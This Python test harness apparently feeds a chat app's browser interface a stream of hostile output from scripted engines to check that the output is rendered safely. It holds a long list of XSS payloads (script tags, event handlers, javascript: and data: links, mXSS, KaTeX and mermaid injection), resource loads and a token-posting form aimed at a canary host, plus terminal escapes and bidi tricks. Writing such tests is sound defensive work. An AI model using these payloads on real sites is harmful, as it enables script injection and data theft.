"""`python -m tests.browser.hostile_app CANARY ...`: the app itself, racing scripted engines that write hostile text.

CANARY is the address of a server that must never be asked for anything.
"""

from __future__ import annotations

import sys

import app
from engines import scripted
from engines.scripted import Script, scripted_engine

NAME = "<img src=x onerror=window.pwned='label'>\u202edesrever\u202c"


def markup(canary: str) -> str:
    """What runs, loads, covers the page or leaves it, if anybody lets it."""
    return " ".join(
        [
            "Before.",
            "<img src=x onerror=window.pwned='img'>",
            "<script>window.pwned='script'</script>",
            f"<script src={canary}/script.js></script>",
            "<svg/onload=window.pwned='svg'>",
            "<svg><animate onbegin=window.pwned='animate' attributeName=x dur=1s></svg>",
            "<details open ontoggle=window.pwned='toggle'>",
            "<iframe srcdoc=<script>parent.pwned='frame'</script>></iframe>",
            f"<iframe src={canary}/frame.html></iframe>",
            "<a href=javascript:window.pwned='anchor' class=bad>one</a>",
            "[two](javascript:window.pwned='link')",
            "[three](JaVaScRiPt&colon;window.pwned='entity')",
            "[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[five](https://example.com/safe)",
            f"![six]({canary}/pixel.png)",
            f"<img src={canary}/raw.png>",
            f"<div id=baseline-run style=position:fixed;inset:0;z-index:9;background:url({canary}/s.png)>over</div>",
            "<style>body{display:none}</style>",
            f"<style>@import'{canary}/import.css';</style>",
            f"<link rel=stylesheet href={canary}/link.css>",
            f"<meta http-equiv=refresh content=0;url={canary}/meta>",
            f"<base href={canary}/>",
            f"<form action={canary}/form><input name=token><button>Run</button></form>",
            f"<video autoplay src={canary}/video.mp4></video>",
            f"<object data={canary}/object></object>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='math'>",
            "$$\\href{javascript:window.pwned='katex'}{seven}$$",
            "```html\n<img src=x onerror=window.pwned='fence'>\n```\n",
            "```mermaid\ngraph LR\nA-->B[<img src=x onerror=window.pwned='mermaid'>]\n```\n",
            "</div></div></body></html>",
            "After.",
        ]
    )


def letters() -> str:
    """What turns, hides, piles up or never ends a line."""
    return " ".join(
        [
            "\x1b[31mred\x1b[0m",
            "\x1b]0;title\x07",
            "\u202eturned around\u202c",
            "\u2067isolated",
            "zero\u200bwidth\u200d\ufeff",
            "\U0001f468\u200d\U0001f469\u200d\U0001f467",
            "piled" + "\u0301" * 60,
            "\u05e9\u05dc\u05d5\u05dd",
            "x" * 90_000,
            "line\n" * 2_000,
        ]
    )


def main(arguments: list[str]) -> int:
    canary, *rest = arguments
    fast = {"start": 0.1, "first_token": 0.02}
    scripted.SCRIPTED_ENGINES = (
        scripted_engine("slow", NAME, "#6B7280", Script(text=markup(canary), gap=0.02, **fast)),
        scripted_engine("quick", "Letters \u202edesrever", "#0072B2", Script(text=letters(), gap=0.05, **fast)),
        scripted_engine("bursty", "Thinker", "#D55E00", Script(text=markup(canary), reasoning_tokens=20, **fast)),
    )
    return app.main(rest)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
